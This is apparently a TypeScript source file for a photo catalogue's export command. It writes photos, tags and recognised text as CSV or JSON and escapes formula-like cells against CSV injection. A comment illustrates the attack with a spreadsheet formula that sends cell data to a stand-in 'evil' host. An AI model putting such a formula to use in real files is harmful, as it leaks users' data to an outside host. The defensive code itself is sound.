// `tujian export`: the catalog's photos and their tags as CSV (RFC 4180) or JSON, so the
// user's tags outlive the app and feed spreadsheets and scripts. Rejected tags are never
// exported. Output is streamed through a `write` callback: a 100k-photo catalog is never
// held in memory as one string.
import type { Catalog } from './catalog-connection.ts';

export interface ExportTag {
  readonly name: string;
  readonly zh: string;
  readonly en: string;
  readonly type: string;
  /** 0–100, one decimal; null (an empty CSV cell) when the engine gave no score. */
  readonly confidence: number | null;
  readonly engine: string;
  readonly model: string;
  readonly state: 'auto' | 'user';
}

export interface ExportPhoto {
  readonly id: number;
  readonly path: string;
  readonly folder: string;
  readonly relPath: string;
  readonly status: string;
  readonly folderStatus: string;
  readonly hash: string | null;
  readonly size: number;
  readonly format: string | null;
  readonly width: number | null;
  readonly height: number | null;
  /**
   * The camera's wall-clock time, ISO 8601 without a zone (see [Note: taken_at is wall-clock
   * time] in main/library/photo-metadata.ts).
   */
  readonly takenAt: string | null;
  readonly camera: string | null;
  readonly lat: number | null;
  readonly lon: number | null;
  readonly tags: readonly ExportTag[];
  /** Text read in the photo (the `text` engine), one line per line; '' when none. */
  readonly text: string;
}

interface PhotoRow {
  id: number;
  folder: string;
  folder_status: string;
  rel_path: string;
  status: string;
  size: number;
  hash: string | null;
  format: string | null;
  width: number | null;
  height: number | null;
  taken_at: number | null;
  camera: string | null;
  lat: number | null;
  lon: number | null;
  content_id: number | null;
}

const pageSize = 1000;

function joinPath(folder: string, relPath: string): string {
  const separator = folder.includes('\\') && !folder.includes('/') ? '\\' : '/';
  const rel = separator === '/' ? relPath : relPath.split('/').join('\\');
  return folder.endsWith(separator) ? folder + rel : folder + separator + rel;
}

/**
 * The photos to export with their tags, in (folder, path) order: all of them, or only the ids
 * given (e.g. the results of a search).
 */
export function* exportPhotos(
  db: Catalog,
  photoIds: readonly number[] | null = null,
  /** Keep the order of `photoIds` (a manual album's order) instead of (folder, path). */
  options: { readonly inGivenOrder?: boolean } = {},
): Generator<ExportPhoto> {
  const columns = `p.id, f.path AS folder, f.status AS folder_status, p.rel_path, p.status, p.size,
    c.hash, c.format, c.width, c.height, c.taken_at, c.camera, c.lat, c.lon, p.content_id`;
  // Tags of a whole page of photos in one query (one query per photo is most of the time).
  const tagsOfPage = db.prepare(
    `SELECT pt.content_id, t.name, t.zh, t.en, t.type, pt.confidence, pt.engine, pt.model, pt.state
     FROM photo_tags pt JOIN tags t ON t.id = pt.tag_id
     WHERE pt.content_id IN (SELECT value FROM json_each(?)) AND pt.state != 'rejected'
     ORDER BY pt.content_id, pt.state = 'user' DESC, pt.confidence DESC, t.name, pt.engine`,
  );
  const textOfPage = db.prepare(
    `SELECT content_id, text FROM photo_text_lines
     WHERE content_id IN (SELECT value FROM json_each(?)) ORDER BY content_id, line_no`,
  );
  const buildPage = (rows: readonly PhotoRow[]): ExportPhoto[] => {
    const contentIds = [
      ...new Set(rows.flatMap((r) => (r.content_id === null ? [] : [r.content_id]))),
    ];
    const tags = new Map<number, ExportTag[]>();
    if (contentIds.length > 0) {
      for (const t of tagsOfPage.all(JSON.stringify(contentIds)) as (ExportTag & {
        content_id: number;
      })[]) {
        const { content_id: contentId, ...tag } = t;
        const list = tags.get(contentId) ?? [];
        if (list.length === 0) tags.set(contentId, list);
        list.push({
          ...tag,
          confidence: tag.confidence === null ? null : Math.round(tag.confidence * 10) / 10,
        });
      }
    }
    const texts = new Map<number, string[]>();
    if (contentIds.length > 0) {
      for (const line of textOfPage.all(JSON.stringify(contentIds)) as {
        content_id: number;
        text: string;
      }[]) {
        const list = texts.get(line.content_id) ?? [];
        if (list.length === 0) texts.set(line.content_id, list);
        list.push(line.text);
      }
    }
    return rows.map((row) =>
      build(
        row,
        row.content_id === null ? [] : (tags.get(row.content_id) ?? []),
        row.content_id === null ? '' : (texts.get(row.content_id) ?? []).join('\n'),
      ),
    );
  };
  const build = (row: PhotoRow, tags: ExportTag[], text: string): ExportPhoto => ({
    id: row.id,
    path: joinPath(row.folder, row.rel_path),
    folder: row.folder,
    relPath: row.rel_path,
    status: row.status,
    folderStatus: row.folder_status,
    hash: row.hash,
    size: row.size,
    format: row.format,
    width: row.width,
    height: row.height,
    takenAt: row.taken_at === null ? null : new Date(row.taken_at).toISOString().slice(0, 19),
    camera: row.camera,
    lat: row.lat,
    lon: row.lon,
    tags,
    text,
  });

  if (photoIds === null) {
    // Keyset pages over the (folder_id, rel_path) index: a long export never holds one read
    // transaction open for its whole run, and each page is an index range, not a sort.
    const folders = db.prepare('SELECT id FROM folders ORDER BY path').all() as { id: number }[];
    const page = db.prepare(
      `SELECT ${columns} FROM photos p JOIN folders f ON f.id = p.folder_id
       LEFT JOIN contents c ON c.id = p.content_id
       WHERE p.folder_id = ? AND p.rel_path > ? ORDER BY p.rel_path LIMIT ?`,
    );
    for (const folder of folders) {
      let after = '';
      for (;;) {
        const rows = page.all(folder.id, after, pageSize) as PhotoRow[];
        yield* buildPage(rows);
        const last = rows.at(-1);
        if (!last || rows.length < pageSize) break;
        after = last.rel_path;
      }
    }
    return;
  }
  const byIds = db.prepare(
    `SELECT ${columns} FROM photos p JOIN folders f ON f.id = p.folder_id
     LEFT JOIN contents c ON c.id = p.content_id
     WHERE p.id IN (SELECT value FROM json_each(?)) ORDER BY f.path, p.rel_path`,
  );
  for (let i = 0; i < photoIds.length; i += pageSize) {
    const slice = photoIds.slice(i, i + pageSize);
    const rows = byIds.all(JSON.stringify(slice)) as PhotoRow[];
    if (options.inGivenOrder) {
      const at = new Map(slice.map((id, index) => [id, index]));
      rows.sort((a, b) => (at.get(a.id) ?? 0) - (at.get(b.id) ?? 0));
    }
    yield* buildPage(rows);
  }
}

/**
 * [Note: CSV cells cannot become formulas]
 * A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (and, after a tab or CR,
 * what follows) as a formula: a file named `=HYPERLINK("http://evil/?"&A1)` or a tag imported
 * from XMP as `@SUM(…)` would run on the user's machine when the export is opened (CSV
 * injection). As OWASP recommends, such a TEXT cell is written with a leading single quote,
 * and quoted, so spreadsheets show it as text; tools reading the file back see the quote.
 * Numbers are left alone: a numeric column is written by us from a number (a negative GPS
 * latitude `-33.86`, a width), cannot carry a formula, and must stay a number for sorting and
 * maps. Only values that are strings in our types get the prefix, so a string that merely
 * looks like a negative number (a camera model "-1") is still neutralised.
 */
const formulaStart = /^[=+\-@\t\r]/;

/**
 * One CSV field per RFC 4180: quoted when it holds a comma, quote, CR or LF (or leading or
 * trailing spaces); a text cell that a spreadsheet would run as a formula gets a leading `'`.
 */
export function csvField(value: string | number | null): string {
  if (value === null) return '';
  if (typeof value === 'number') return String(value);
  if (formulaStart.test(value)) return `"'${value.replace(/"/g, '""')}"`;
  return /[",\r\n]/.test(value) || value !== value.trim()
    ? `"${value.replace(/"/g, '""')}"`
    : value;
}

function csvLine(fields: readonly (string | number | null)[]): string {
  return `${fields.map(csvField).join(',')}\r\n`;
}

export type CsvLayout = 'tags' | 'photos';

const photoColumns = [
  'path',
  'folder',
  'rel_path',
  'status',
  'hash',
  'taken_at',
  'camera',
  'lat',
  'lon',
  'width',
  'height',
] as const;

/** Header of each CSV layout. */
export const csvColumns: Record<CsvLayout, readonly string[]> = {
  // One row per (photo, tag): every tag field in its own column; untagged photos get one row.
  tags: [
    ...photoColumns,
    'tag',
    'tag_zh',
    'tag_en',
    'tag_type',
    'confidence',
    'engine',
    'model',
    'state',
  ],
  // One row per photo: tag names joined with "; " (for spreadsheets), and the text read in it.
  photos: [...photoColumns, 'tags_en', 'tags_zh', 'text'],
};

function photoFields(p: ExportPhoto): (string | number | null)[] {
  return [
    p.path,
    p.folder,
    p.relPath,
    p.status,
    p.hash,
    p.takenAt,
    p.camera,
    p.lat,
    p.lon,
    p.width,
    p.height,
  ];
}

/** Writes the photos as CSV (CRLF line ends, header first); returns the photos written. */
export function writeCsv(
  photos: Iterable<ExportPhoto>,
  write: (chunk: string) => void,
  layout: CsvLayout = 'tags',
): number {
  write(csvLine(csvColumns[layout]));
  let count = 0;
  for (const photo of photos) {
    count++;
    const base = photoFields(photo);
    if (layout === 'photos') {
      const unique = (names: string[]) => [...new Set(names)].join('; ');
      write(
        csvLine([
          ...base,
          unique(photo.tags.map((t) => t.en)),
          unique(photo.tags.map((t) => t.zh)),
          photo.text === '' ? null : photo.text,
        ]),
      );
      continue;
    }
    if (photo.tags.length === 0) {
      write(csvLine([...base, null, null, null, null, null, null, null, null]));
      continue;
    }
    for (const t of photo.tags) {
      write(
        csvLine([...base, t.name, t.zh, t.en, t.type, t.confidence, t.engine, t.model, t.state]),
      );
    }
  }
  return count;
}

/** Writes the photos as one JSON array (one photo per line); returns the photos written. */
export function writeJson(photos: Iterable<ExportPhoto>, write: (chunk: string) => void): number {
  let count = 0;
  write('[');
  for (const photo of photos) {
    write(`${count === 0 ? '\n' : ',\n'}${JSON.stringify(photo)}`);
    count++;
  }
  write(count === 0 ? ']\n' : '\n]\n');
  return count;
}

/** Parses RFC 4180 CSV (for tests and for tools reading an export back). */
export function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  let i = 0;
  while (i < text.length) {
    const ch = text.charAt(i);
    if (quoted) {
      if (ch === '"') {
        if (text[i + 1] === '"') {
          field += '"';
          i += 2;
          continue;
        }
        quoted = false;
        i++;
        continue;
      }
      field += ch;
      i++;
      continue;
    }
    if (ch === '"') {
      quoted = true;
    } else if (ch === ',') {
      row.push(field);
      field = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else if (ch === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
    } else {
      field += ch;
    }
    i++;
  }
  if (quoted) throw new Error('CSV ends inside a quoted field.');
  if (field !== '' || row.length > 0) {
    row.push(field);
    rows.push(row);
  }
  return rows;
}
